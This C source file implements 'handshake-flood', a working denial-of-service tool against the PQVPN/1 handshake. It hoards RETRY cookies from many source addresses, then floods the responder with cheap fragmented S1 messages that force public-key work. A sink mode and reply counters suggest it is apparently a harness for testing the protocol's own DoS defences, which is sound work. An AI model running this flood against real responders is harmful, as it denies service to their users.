// SPDX-License-Identifier: Apache-2.0
// An attacker who owns 65,536 addresses and knows the responder's id: hoards cookies while the responder is idle and asks
// nothing for them, then lets S1 messages rain that cost public-key work and lead nowhere. docs/protocol.md §4 to §6.
//
//   handshake-flood --sink PORT
//   handshake-flood RESPONDER-IP PORT PEER-ID-HEX SOURCE-NETWORK(a.b) MESSAGES PER-SECOND
//
// Prints "hoarded N", then obeys lines "PORT SECONDS" on standard input, each by as many messages to that port; every cookie
// is used once for RESPONDER's own port, and as often as need be for any other, where nobody is meant to look at it. After
// each line it prints "sent M messages, D datagrams, S seconds, A answers" (S2 datagrams that came back: none should).
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/kdf.h>
#include <openssl/rand.h>
#include <openssl/sha.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

// §5, §6: the total of a brief S1, and what one datagram of seven carries.
enum { total = S1_TOTAL, fragments = 7, chunk = (total + fragments - 1) / fragments, overhead = 80 };

static uint8_t peer_id[32], mac_key[32];
static struct sockaddr_in responder;
static int fd;
static volatile sig_atomic_t ended;
static void end(int signal) { (void)signal; ended = 1; }

static void die(const char *what) {
    fprintf(stderr, "handshake-flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

static void mac1(uint8_t *out, const uint8_t *bytes, size_t count) {
    uint8_t digest[32];
    unsigned length = 32;
    HMAC(EVP_sha256(), mac_key, 32, bytes, count, digest, &length);
    memcpy(out, digest, 16);
}

static void put16(uint8_t *at, unsigned value) { at[0] = (uint8_t)(value >> 8); at[1] = (uint8_t)value; }
static void put32(uint8_t *at, uint32_t value) { put16(at, value >> 16); put16(at + 2, value & 0xFFFF); }

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

// One address of the attacker's network; its number is in the lower 16 bits.
static uint32_t network;

struct packet {
    struct iovec piece;
    union {
        char room[CMSG_SPACE(sizeof(struct in_pktinfo))];
        struct cmsghdr align;
    } control;
};

static void prepare(struct mmsghdr *message, struct packet *packet, uint8_t *bytes, size_t count, uint16_t from) {
    packet->piece = (struct iovec){bytes, count};
    memset(message, 0, sizeof *message);
    message->msg_hdr = (struct msghdr){&responder, sizeof responder, &packet->piece, 1, &packet->control,
                                       sizeof packet->control, 0};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message->msg_hdr);
    *header = (struct cmsghdr){CMSG_LEN(sizeof(struct in_pktinfo)), IPPROTO_IP, IP_PKTINFO};
    struct in_pktinfo info = {.ipi_spec_dst.s_addr = htonl(network | from)};
    memcpy(CMSG_DATA(header), &info, sizeof info);
}

static long sent;
static void send_all(struct mmsghdr *messages, unsigned count) {
    for (unsigned at = 0; at < count && !ended;) {
        int done = sendmmsg(fd, messages + at, count - at, 0);
        if (done < 0) {
            // A full socket buffer is the attacker's own limit.
            if (errno == EAGAIN || errno == ENOBUFS || errno == EINTR) continue;
            die("sendmmsg");
        }
        at += (unsigned)done;
        sent += done;
    }
}

struct prize {
    uint8_t cookie[32];
    uint32_t index;
    uint16_t from;
};
static struct prize *prizes;
static long hoard;

// §4: a RETRY gives its cookie to whoever knows the responder's id and has sent that S0.
static int open_retry(const uint8_t *retry, const uint8_t *s0, uint8_t *cookie) {
    uint8_t key[32];
    size_t length = sizeof key;
    EVP_PKEY_CTX *kdf = EVP_PKEY_CTX_new_id(EVP_PKEY_HKDF, NULL);
    int ok = EVP_PKEY_derive_init(kdf) > 0 && EVP_PKEY_CTX_set_hkdf_md(kdf, EVP_sha256()) > 0 &&
             EVP_PKEY_CTX_set1_hkdf_salt(kdf, retry + 20, 16) > 0 && EVP_PKEY_CTX_set1_hkdf_key(kdf, peer_id, 32) > 0 &&
             EVP_PKEY_CTX_add1_hkdf_info(kdf, (const uint8_t *)"PQVPN/1 cookie seal", 19) > 0 &&
             EVP_PKEY_derive(kdf, key, &length) > 0;
    EVP_PKEY_CTX_free(kdf);
    if (!ok) return 0;
    static const uint8_t nonce[12];
    // The cookie, and zeros up to the tag.
    uint8_t opened[76], rest[16];
    int count;
    EVP_CIPHER_CTX *cipher = EVP_CIPHER_CTX_new();
    ok = EVP_DecryptInit_ex(cipher, EVP_chacha20_poly1305(), NULL, key, nonce) > 0 &&
         EVP_DecryptUpdate(cipher, NULL, &count, s0, 128) > 0 &&
         EVP_DecryptUpdate(cipher, opened, &count, retry + 36, sizeof opened) > 0 &&
         EVP_CIPHER_CTX_ctrl(cipher, EVP_CTRL_AEAD_SET_TAG, 16, (void *)(uintptr_t)(retry + 112)) > 0 &&
         EVP_DecryptFinal_ex(cipher, rest, &count) > 0;
    EVP_CIPHER_CTX_free(cipher);
    memcpy(cookie, opened, 32);
    // One that has to be paid for is not worth it.
    return ok && cookie[1] == 0;
}

static void collect(long wanted) {
    enum { batch = 64 };
    static uint8_t asked[65536][128];
    struct mmsghdr messages[batch];
    struct packet packets[batch];
    uint8_t bytes[batch][128];
    uint32_t seed;
    RAND_bytes((uint8_t *)&seed, sizeof seed);
    double deadline = now() + 60;
    for (uint32_t next = 0; hoard < wanted && !ended && now() < deadline; next += batch) {
        for (unsigned i = 0; i < batch; i++) {
            uint16_t from = (uint16_t)(next + i);
            uint8_t *s0 = bytes[i];
            memset(s0, 0, 128);
            s0[0] = 1, s0[1] = 3;
            put16(s0 + 2, 112);
            // Version 1, suite 1, both ciphers.
            s0[17] = 1, s0[18] = 1, s0[19] = 3;
            put32(s0 + 20, (seed + next + i) | 1);
            RAND_bytes(s0 + 24, 16);
            mac1(s0 + 112, s0, 112);
            memcpy(asked[from], s0, 128);
            prepare(&messages[i], &packets[i], s0, 128, from);
        }
        send_all(messages, batch);
        usleep(2000);
        while (hoard < wanted) {
            uint8_t answer[2048];
            union { char room[256]; struct cmsghdr align; } control;
            struct iovec piece = {answer, sizeof answer};
            struct msghdr message = {.msg_iov = &piece, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
            ssize_t count = recvmsg(fd, &message, MSG_DONTWAIT);
            if (count < 0) break;
            struct cmsghdr *header = CMSG_FIRSTHDR(&message);
            if (count != 128 || answer[1] != 4 || !header || header->cmsg_type != IP_PKTINFO) continue;
            struct in_pktinfo info;
            memcpy(&info, CMSG_DATA(header), sizeof info);
            uint16_t from = (uint16_t)ntohl(info.ipi_addr.s_addr);
            struct prize *prize = &prizes[hoard];
            if (!open_retry(answer, asked[from], prize->cookie)) continue;
            memcpy(&prize->index, asked[from] + 20, 4);
            prize->from = from;
            hoard++;
        }
    }
}

// RFC 5639: the generator of brainpoolP512r1, a valid share that nobody had to compute.
static const char generator[] =
    "0481aee4bdd82ed9645a21322e9c4c6a9385ed9f70b5d916c1b43b62eef4d0098eff3b1f78e2d0d48d50d1687b93b97d5f7c6d5047406a5e"
    "688b352209bcb9f8227dde385d566332ecc0eabfa9cf7822fdf209f70024a57b1aa000c55b881f8111b2dcde494a5f485e5bca4bd88a2763"
    "aed1ca2b2fa8f0540678cd1e0f3ad80892";

static void unhex(const char *text, uint8_t *out, size_t count) {
    for (size_t i = 0; i < count; i++) {
        unsigned value;
        if (sscanf(text + 2 * i, "%2x", &value) != 1) die("not hexadecimal");
        out[i] = (uint8_t)value;
    }
}

static void flood(double rate, int port, double seconds, int isReal) {
    static long spent;
    static uint8_t message[fragments * chunk], bytes[fragments][overhead + chunk];
    struct mmsghdr messages[fragments];
    struct packet packets[fragments];
    RAND_bytes(message, total);
    message[0] = 1, message[1] = 1, message[2] = 3, message[3] = 0;
    // An encapsulation key of zero coefficients passes the modulus check (FIPS 203 §7.2).
    memset(message + 24, 0, 1536);
    unhex(generator, message + 3160, 129);
    memset(message + total, 0, sizeof message - total);
    double began = now();
    long used = 0, answers = 0;
    sent = 0;
    responder.sin_port = htons((uint16_t)port);
    for (; now() - began < seconds && !ended; used++) {
        if (isReal && spent == hoard) break;
        double due = began + (double)used / rate;
        while (now() < due && !ended) usleep(200);
        struct prize *prize = &prizes[isReal ? spent++ : used % hoard];
        memcpy(message + 4, &prize->index, 4);
        uint8_t hash[32];
        SHA256(message, total, hash);
        for (unsigned i = 0; i < fragments; i++) {
            uint8_t *at = bytes[i];
            memset(at, 0, overhead);
            at[0] = 1, at[1] = 1;
            put16(at + 2, overhead + chunk - 16);
            memcpy(at + 8, hash, 8);
            at[16] = (uint8_t)i, at[17] = fragments;
            put16(at + 18, total);
            memcpy(at + 20, &prize->index, 4);
            memcpy(at + 24, prize->cookie, 32);
            mac1(at + 64, at, 64);
            memcpy(at + overhead, message + i * chunk, chunk);
            prepare(&messages[i], &packets[i], at, overhead + chunk, prize->from);
        }
        send_all(messages, fragments);
        uint8_t answer[2048];
        while (recv(fd, answer, sizeof answer, MSG_DONTWAIT) > 0) answers += answer[1] == 2;
    }
    printf("sent %ld messages, %ld datagrams, %.2f seconds, %ld answers\n", used, sent, now() - began, answers);
    fflush(stdout);
}

// A port where datagrams arrive and are forgotten.
static int swallow(int port) {
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0 || bind(fd, (struct sockaddr *)&here, sizeof here)) die("socket");
    uint8_t bytes[2048];
    while (!ended) (void)!recv(fd, bytes, sizeof bytes, 0);
    return 0;
}

int main(int count, char **arguments) {
    if (count == 3 && !strcmp(arguments[1], "--sink")) return swallow(atoi(arguments[2]));
    if (count != 7) {
        fprintf(stderr, "handshake-flood RESPONDER-IP PORT PEER-ID-HEX SOURCE-NETWORK(a.b) MESSAGES PER-SECOND\n");
        return 2;
    }
    signal(SIGTERM, end);
    responder = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(arguments[2]))};
    if (inet_pton(AF_INET, arguments[1], &responder.sin_addr) != 1) die("not an address");
    unhex(arguments[3], peer_id, 32);
    unsigned a, b;
    if (sscanf(arguments[4], "%u.%u", &a, &b) != 2) die("not a network");
    network = a << 24 | b << 16;
    long wanted = atol(arguments[5]);
    double rate = atof(arguments[6]);
    prizes = calloc((size_t)wanted, sizeof *prizes);
    uint8_t text[12 + 32] = "PQVPN/1 mac1";
    memcpy(text + 12, peer_id, 32);
    SHA256(text, sizeof text, mac_key);
    fd = socket(AF_INET, SOCK_DGRAM, 0);
    int yes = 1, room = 8 << 20;
    struct sockaddr_in any = {.sin_family = AF_INET};
    if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_PKTINFO, &yes, sizeof yes) || bind(fd, (struct sockaddr *)&any, sizeof any)) die("socket");
    setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof room);
    setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof room);
    collect(wanted);
    printf("hoarded %ld\n", hoard);
    fflush(stdout);
    int port;
    double seconds;
    while (!ended && hoard > 0 && scanf("%d %lf", &port, &seconds) == 2) flood(rate, port, seconds, port == atoi(arguments[2]));
    return 0;
}
